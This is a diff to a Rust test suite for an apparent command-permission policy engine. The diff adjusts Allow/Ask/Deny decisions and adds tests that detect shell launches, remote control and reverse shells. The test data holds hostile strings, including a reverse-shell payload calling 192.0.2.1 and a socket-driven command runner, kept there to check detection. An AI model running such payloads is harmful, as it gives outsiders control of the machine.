@@ -129,6 +129,7 @@ fn table() -> Vec<(EffectKind<'static>, Decision, Decision, &'static str)> {
         (write(at(Repository, "/home/u/proj/.git/index")), Ask, Ask, "repository-changed"),
         (write(at(Secret, "/home/u/proj/.env")), Ask, Ask, "secret-changed"),
         (write(at(Secret, "/etc/shadow")), Deny, Deny, "secret-of-system-changed"),
+        (write(at(System, "/")), Ask, Allow, "outside-written"),
         (write(at(System, "/usr/bin/ls")), Deny, Deny, "system-changed"),
         (write(at(Persistence, "/home/u/.bashrc")), Deny, Deny, "persistence-written"),
         (write(at(Persistence, "/home/u/proj/.git/hooks/pre-commit")), Deny, Deny, "persistence-written"),
@@ -201,7 +202,7 @@ fn table() -> Vec<(EffectKind<'static>, Decision, Decision, &'static str)> {
         (EffectKind::Package { action: "publish" }, Ask, Ask, "published"),
         (EffectKind::Vcs { action: "commit" }, Allow, Allow, ""),
         (EffectKind::Vcs { action: "branch" }, Allow, Allow, ""),
-        (EffectKind::Vcs { action: "push" }, Ask, Allow, "push"),
+        (EffectKind::Vcs { action: "push" }, Ask, Ask, "push"),
         (EffectKind::Vcs { action: "force-push" }, Ask, Ask, "history-rewritten"),
         (EffectKind::Vcs { action: "rewrite" }, Ask, Ask, "history-rewritten"),
         (EffectKind::Vcs { action: "discard" }, Ask, Ask, "changes-discarded"),
@@ -210,7 +211,7 @@ fn table() -> Vec<(EffectKind<'static>, Decision, Decision, &'static str)> {
         (EffectKind::Remote { action: "change", service: "aws" }, Ask, Ask, "remote-changed"),
         (EffectKind::Remote { action: "destroy", service: "aws" }, Ask, Ask, "remote-destroyed"),
         // Not understood.
-        (unknown(Reason::Program), Ask, Allow, "unknown-program"),
+        (unknown(Reason::Program), Ask, Ask, "unknown-program"),
         (unknown(Reason::Option(b"--x")), Ask, Allow, "unknown-option"),
         (unknown(Reason::Subcommand(b"x")), Ask, Allow, "unknown-option"),
         (unknown(Reason::Argument), Ask, Allow, "unknown-construct"),
@@ -240,7 +241,14 @@ fn every_rule_is_met_by_some_effect() {
     let mut met: Vec<&str> = table().into_iter().map(|(_, _, _, rule)| rule).collect();
     // Rules on programs, not effects, and the rule of another profile, have tests of their own.
     met.extend(["firewall-controlled", "miner", "read-only"]);
-    met.extend(["reverse-shell", "secret-named", "protected-named", "shell-named"]);
+    met.extend([
+        "reverse-shell",
+        "secret-named",
+        "shell-started",
+        "remote-control",
+        "protected-named",
+        "shell-named",
+    ]);
     for rule in rules() {
         assert!(met.contains(&rule.id), "{} is met by no row", rule.id);
     }
@@ -411,7 +419,13 @@ fn what_is_named_to_the_unknown_counts() {
         (&["frobnicate", "-o", "/home/u/.bashrc"], "protected-named"),
         (&["frobnicate", "/dev/sda"], "protected-named"),
         (&["frobnicate", "/dev/null"], ""),
-        (&["frobnicate", "--exec", "/bin/sh"], "shell-named"),
+        (&["frobnicate", "--exec", "/bin/sh"], "shell-started"),
+        (&["frobnicate", "--exec=/bin/bash -p"], "shell-started"),
+        (&["frobnicate", "os.execl('/bin/sh')"], "shell-started"),
+        (&["frobnicate", "/bin/sh -c 'ls'"], "shell-named"),
+        (&["frobnicate", "#!/bin/sh\nls"], "shell-named"),
+        (&["frobnicate", "run(x, executable='/bin/bash')"], "shell-named"),
+        (&["frobnicate", "s=socket.socket(); subprocess.run(s.recv(9))"], "remote-control"),
         (&["frobnicate", "s=fsockopen('192.0.2.1',1);exec('/bin/sh -i <&3')"], "reverse-shell"),
         (&["frobnicate", long], "protected-named"),
     ] {
